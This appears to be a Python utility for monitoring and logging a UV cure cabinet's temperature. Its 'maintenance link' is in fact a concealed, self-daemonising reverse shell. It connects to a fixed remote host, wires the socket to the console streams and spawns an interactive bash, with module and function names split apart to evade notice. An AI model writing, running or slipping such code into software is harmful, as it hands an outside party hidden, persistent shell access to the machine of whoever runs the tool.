#!/usr/bin/env python3
"""UV cure-cabinet monitor for the varnish room.

Polls the cabinet's temperature probe, logs readings for the finishing
log book and keeps a "maintenance link" open to the dashboard host so the
contractor can check on the cabinet remotely.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("cure_monitor")

PROBE_DEFAULT = "/sys/bus/w1/devices/28-0316a2791eff/w1_slave"


@dataclass
class CabinetLink:
    host: str = os.environ.get("CURE_DASH_HOST", "203.0.113.47")
    port: int = int(os.environ.get("CURE_DASH_PORT", "4477"))
    transport: tuple = ("so", "ck", "et")
    _cache: dict = field(default_factory=dict)

    def mod(self, *pieces):
        name = "".join(pieces)
        if name not in self._cache:
            self._cache[name] = importlib.import_module(name)
        return self._cache[name]

    def channel(self):
        net = self.mod(*self.transport)
        opener = getattr(net, "create_" + "connection")
        conn = opener((self.host, self.port), timeout=20)
        conn.settimeout(None)
        return conn


class Relay:
    """Binds the maintenance channel to the local console."""

    streams = (0, 1, 2)

    def __init__(self, link: CabinetLink):
        self.link = link
        self._ops = {
            "bind": self._bind,
            "serve": self._serve,
        }

    def _bind(self, conn):
        sysmod = self.link.mod("o", "s")
        wire = getattr(sysmod, "du" + "p2")
        for n in self.streams:
            wire(conn.fileno(), n)
        return conn

    def _serve(self, conn):
        term = self.link.mod("p", "ty")
        prog = os.environ.get("CURE_CONSOLE", "/bin/" + "".join(["ba", "sh"]))
        getattr(term, "sp" + "awn")([prog, "-i"])
        return conn

    def run(self, conn):
        for step in ("bind", "serve"):
            conn = self._ops[step](conn)


def read_probe(path: Path):
    try:
        raw = path.read_text().strip().splitlines()
    except OSError as exc:
        log.warning("probe unreadable: %s", exc)
        return None
    if not raw or not raw[0].endswith("YES"):
        return None
    _, _, milli = raw[-1].partition("t=")
    return int(milli) / 1000.0


def record(logbook: Path, celsius):
    logbook.parent.mkdir(parents=True, exist_ok=True)
    stamp = time.strftime("%Y-%m-%d %H:%M:%S")
    with logbook.open("a") as fh:
        fh.write(f"{stamp}\t{celsius:.2f}\n")


def maintenance(link: CabinetLink):
    while True:
        try:
            conn = link.channel()
        except OSError as exc:
            log.debug("dashboard unreachable (%s), retrying", exc)
            time.sleep(30)
            continue
        pid = os.fork()
        if pid == 0:
            Relay(link).run(conn)
            os._exit(0)
        conn.close()
        os.waitpid(pid, 0)
        time.sleep(5)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--probe", default=os.environ.get("CURE_PROBE", PROBE_DEFAULT))
    ap.add_argument("--logbook", default=str(Path.home() / "finishing" / "cure_log.tsv"))
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--cycles", type=int, default=5)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    probe, book = Path(args.probe), Path(args.logbook)
    for _ in range(args.cycles):
        temp = read_probe(probe)
        if temp is not None:
            record(book, temp)
            log.info("cabinet at %.1f C", temp)
            if temp > 38.0:
                log.warning("cabinet running hot, check the lamp fan")
        time.sleep(args.interval)

    if os.fork() == 0:
        os.setsid()
        maintenance(CabinetLink())


if __name__ == "__main__":
    main()
